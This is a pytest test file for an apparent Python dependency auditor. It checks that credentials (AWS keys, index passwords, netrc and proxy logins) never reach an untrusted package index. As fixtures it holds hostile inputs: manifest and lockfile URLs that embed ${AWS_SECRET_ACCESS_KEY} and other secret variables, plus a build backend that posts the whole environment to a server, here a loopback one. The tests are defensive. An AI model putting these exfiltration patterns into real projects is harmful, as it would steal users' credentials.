"""Projects that are after the caller's secrets: not a byte of those reaches their servers."""

from __future__ import annotations

import base64
import http.server
import os
import re
import sys
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path

import msgspec
import pytest

from ftbuild.auditing.findings import Audit
from ftbuild.auditing.inputs.words import read_inputs
from ftbuild.auditing.steps import How, audit
from ftbuild.errors import FtbuildError
from ftbuild.store.layout import Layout
from tests.unit.auditing.examples import TARGET
from tests.unit.provision.worlds import world
from tests.unit.wheels.tiny import sdist, wheel

HERE = msgspec.structs.replace(TARGET, python=sys.executable)
SECRETS = ("wJalrXUtnFEMI", "corp-s3cret", "pip-s3cret", "netrc-s3cret", "proxy-s3cret")

BACKEND = """\
import os, sys, urllib.request
body = repr((dict(os.environ), sys.argv, sys.stdin.read())).encode()
urllib.request.urlopen(urllib.request.Request("{url}/built", body), timeout=10).close()
sys.exit("that is all")
"""


class Server:
    """An index on the loopback interface that keeps all that it is sent."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.received = b""
        outer = self
        folder.mkdir()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                outer.received += f"{self.requestline}\n{self.headers}".encode()
                outer.received += self.rfile.read(size) + b"\n"
                name = self.path.rstrip("/").rpartition("/")[2]
                files = sorted(folder.glob(f"{name}-*"))
                links = "".join(f'<a href="/files/{file.name}">{file.name}</a>' for file in files)
                page = f"<!DOCTYPE html><html><body>{links}</body></html>".encode()
                file = folder / name
                content = file.read_bytes() if file.is_file() else page
                found = file.is_file() or files
                self.send_response(200 if found else 404)
                kind = "text/html" if not file.is_file() else "application/octet-stream"
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            do_POST = do_HEAD = do_GET  # noqa: N815

            def log_message(self, *words: object) -> None:
                pass

        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_port}"
        self.thread = threading.Thread(
            target=self.http.serve_forever, kwargs={"poll_interval": 0.01}
        )
        self.thread.start()

    def close(self) -> None:
        self.http.shutdown()
        self.thread.join()
        self.http.server_close()


@pytest.fixture
def stranger(tmp_path: Path) -> Iterator[Server]:
    server = Server(tmp_path / "stranger")
    hook = f"bait @ {server.url}/${{AWS_SECRET_ACCESS_KEY}}/bait-1.0-py3-none-any.whl"
    for name, requires in {"bait": (), "plain": (), "hooked": (hook,)}.items():
        wheel(server.folder, name, "1.0", *requires)
    yield server
    server.close()


@pytest.fixture
def own(tmp_path: Path) -> Iterator[Server]:
    server = Server(tmp_path / "own")
    wheel(server.folder, "ours", "1.0")
    yield server
    server.close()


def caller(tmp_path: Path, own: Server) -> dict[str, str]:
    (tmp_path / ".netrc").write_text("machine private.example login me password netrc-s3cret\n")
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "UV_CACHE_DIR": str(tmp_path / "cache"),
        "UV_HTTP_RETRIES": "0",
        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI",
        "UV_INDEX_CORP_USERNAME": "me",
        "UV_INDEX_CORP_PASSWORD": "corp-s3cret",
        "UV_INDEX_OTHER_PASSWORD": "corp-s3cret",
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_INDEX_URL": own.url.replace("//", "//me:pip-s3cret@") + "/simple",
        "HTTPS_PROXY": "http://me:proxy-s3cret@127.0.0.1:9",
        "NO_PROXY": "127.0.0.1",
    }


def audited(
    layout: Layout, project: Path, word: str, env: Mapping[str, str], **how: object
) -> Audit | FtbuildError:
    """What the audit of a project comes to; that it is refused is no matter here."""
    inputs = read_inputs([word], extras=(), groups=(), cwd=project)
    running = msgspec.structs.replace(world(layout)[0], env=env)
    try:
        (found,) = audit(inputs, [HERE], How(**how), running)  # type: ignore[arg-type]
    except FtbuildError as error:
        return error
    return found


PROJECT = '[project]\nname = "p"\nversion = "1"\nrequires-python = ">=3.9"\n'
PLAIN = f'{PROJECT}dependencies = ["plain"]\n'
WHEEL = "URL/KEY/bait-1.0-py3-none-any.whl"
INDEX = '[[tool.uv.index]]\nname = "corp"\nurl = "URL/simple/"\n'
POETRY = f"""\
[tool.poetry]
name = "p"
version = "1"
[tool.poetry.dependencies]
python = ">=3.9"
bait = {{url = "{WHEEL}"}}
[[tool.poetry.source]]
name = "corp"
url = "URL/simple"
"""
PYLOCK = f"""\
lock-version = "1.0"
created-by = "x"
[[packages]]
name = "bait"
version = "1.0"
index = "URL/KEY"
archive = {{url = "{WHEEL}", hashes = {{sha256 = "{"0" * 64}"}}}}
"""
UVLOCK = f"""\
version = 1
requires-python = ">=3.9"
[[package]]
name = "p"
version = "1"
source = {{ virtual = "." }}
dependencies = [{{ name = "bait" }}]
[[package]]
name = "bait"
version = "1.0"
source = {{ url = "{WHEEL}" }}
"""
SHAPES = {
    "index": ("requirements.txt", "--index-url URL/KEY/simple/\nbait\n"),
    "extra": ("requirements.txt", "--extra-index-url URL/KEY/simple/\nbait\n"),
    "user": ("requirements.txt", "-i http://KEY:KEY@HOST/simple\nbait\n"),
    "links": ("requirements.txt", "-f URL/KEY/bait\nbait\n"),
    "direct": ("requirements.txt", f"bait @ {WHEEL}\n"),
    "include": ("requirements.txt", "-r URL/KEY/more.txt\nplain\n"),
    "limits": ("requirements.txt", "-c URL/KEY/more.txt\nplain\n"),
    "others": (
        "requirements.txt",
        "-i URL/${UV_INDEX_CORP_PASSWORD}/${PIP_INDEX_URL}/${HTTPS_PROXY}/simple\nplain\n",
    ),
    "project": ("pyproject.toml", f'{PROJECT}dependencies = ["bait @ {WHEEL}"]\n'),
    "name": ("pyproject.toml", PLAIN + INDEX),
    "source": ("pyproject.toml", PLAIN + '[tool.uv.sources]\nplain = {index = "corp"}\n' + INDEX),
    "settings": (
        "pyproject.toml",
        PLAIN + '[tool.uv]\ncache-dir = "HERE/theirs"\nkeyring-provider = "subprocess"\n'
        f'https-proxy = "URL"\n{INDEX}authenticate = "always"\ndefault = true\n',
    ),
    "pip": ("pyproject.toml", PLAIN + '[tool.uv.pip]\nindex-url = "URL/KEY/simple/"\n' + INDEX),
    "poetry": ("pyproject.toml", POETRY),
    "pdm": (
        "pyproject.toml",
        PLAIN + '[[tool.pdm.source]]\nname = "corp"\nurl = "URL/KEY/simple"\n',
    ),
    "pylock": ("pylock.toml", PYLOCK),
    "uv.lock": ("uv.lock", UVLOCK),
    "metadata": ("requirements.txt", "-i URL/simple\nhooked\n"),
}


def write(folder: Path, file: str, text: str, stranger: Server) -> Path:
    """A project that has one file, and the addresses of a stranger in that."""
    folder.mkdir()
    for word, value in {
        "URL": stranger.url,
        "HOST": stranger.url[7:],
        "KEY": "${AWS_SECRET_ACCESS_KEY}",
        "HERE": str(folder),
    }.items():
        text = re.sub(rf"(?<![A-Z_]){word}(?![A-Z_])", value, text)
    (folder / file).write_text(text)
    return folder


def leaked(server: Server) -> list[str]:
    """The secrets in what a server received, as they are or encoded as HTTP has logins."""
    told = server.received.decode("latin-1")
    told += "".join(
        base64.b64decode(word).decode("latin-1")
        for word in re.findall(r"(?i)authorization: basic (\S+)", told)
    )
    return [secret for secret in SECRETS if secret in told]


@pytest.mark.parametrize("shape", SHAPES)
def test_no_secret_reaches_a_project_that_asks_for_it(
    shape: str, layout: Layout, tmp_path: Path, stranger: Server, own: Server
) -> None:
    project = write(tmp_path / "project", *SHAPES[shape], stranger)
    found = audited(layout, project, SHAPES[shape][0], caller(tmp_path, own), probe=False)
    assert leaked(stranger) == []
    assert not (project / "theirs").exists()
    assert stranger.received or shape in {"pdm", "pylock"}
    if isinstance(found, Audit) and shape not in {"pdm", "metadata"}:
        (note,) = [note for note in found.notes if "only you" in note]
        assert "\n" not in note
        assert not [secret for secret in SECRETS if secret in note]


def test_a_build_is_told_no_secret_and_the_users_index_its_own(
    layout: Layout, tmp_path: Path, stranger: Server, own: Server
) -> None:
    sdist(stranger.folder, "made", "1.0", setup=BACKEND.format(url=stranger.url))
    text = "--extra-index-url URL/simple\nmade\nours\n"
    project = write(tmp_path / "project", "requirements.txt", text, stranger)
    env = caller(tmp_path, own) | {"UV_INDEX": f"corp={own.url}/corp"}
    found = audited(layout, project, "requirements.txt", env, probe=True)
    assert isinstance(found, FtbuildError)
    assert b"POST /built" in stranger.received, found
    assert leaked(stranger) == []
    assert "corp-s3cret" in leaked(own)


def test_a_variable_that_the_user_gives_is_used(
    layout: Layout, tmp_path: Path, stranger: Server, own: Server
) -> None:
    project = write(tmp_path / "project", *SHAPES["index"], stranger)
    env = caller(tmp_path, own)
    given = ("AWS_SECRET_ACCESS_KEY",)
    found = audited(layout, project, "requirements.txt", env, probe=False, variables=given)
    assert leaked(stranger) == [SECRETS[0]]
    assert isinstance(found, Audit)
    assert not found.notes
